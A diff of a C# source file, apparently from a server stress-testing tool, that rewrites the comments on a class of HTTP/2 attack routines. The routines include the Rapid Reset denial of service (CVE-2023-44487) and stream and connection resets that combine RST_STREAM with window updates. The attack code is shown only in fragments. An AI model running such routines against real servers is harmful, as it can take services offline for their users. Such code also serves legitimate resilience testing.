@@ -1,13 +1,13 @@
 namespace Counter.Attack.Attackers;
 
-/// <summary>Streams and connections that are reset in their middle.</summary>
+/// <summary>Attackers that reset streams and connections early.</summary>
 internal static class Resets
 {
     private const int AtOnce = 50;
     private const int Cancel = 8;
     private const string Picture = "/online.png?site=attack.example&page=/resets";
 
-    /// <summary>Requests that are taken back in the same breath (CVE-2023-44487).</summary>
+    /// <summary>Sends requests and resets them in the same write (CVE-2023-44487).</summary>
     public static async Task RapidAsync(Target target, int number, Action<string> count, CancellationToken over)
     {
         await using var connection = await Http2Connection.OpenAsync(target, number, ushort.MaxValue, over);
@@ -23,7 +23,7 @@ internal static class Resets
         }, over);
     }
 
-    /// <summary>Image streams that are reset as soon as they are answered.</summary>
+    /// <summary>Opens image streams and resets each as soon as it is answered.</summary>
     public static async Task LeaveStreamsAsync(Target target, int number, Action<string> count, CancellationToken over)
     {
         await using var connection = await Http2Connection.OpenAsync(target, number, ushort.MaxValue, over);
@@ -41,14 +41,14 @@ internal static class Resets
             }
             while (type is not (Http2Connection.Headers or Http2Connection.GoAway));
 
-            // What came of the body counts against the connection's window, and is given back.
+            // Received bytes of the body reduce the connection's window, so the window is increased again.
             await connection.WriteAsync(
                 (byte[])[.. Http2Connection.Frame(Http2Connection.Reset, id, Cancel), .. Http2Connection.Frame(Http2Connection.WindowUpdate, 0, ushort.MaxValue)], over);
             count("left");
         }
     }
 
-    /// <summary>Connections that are reset when the first frame of their stream has begun.</summary>
+    /// <summary>Opens image streams and resets each connection when the response has begun.</summary>
     public static async Task ResetConnectionAsync(Target target, int number, Action<string> count, CancellationToken over)
     {
         while (true)
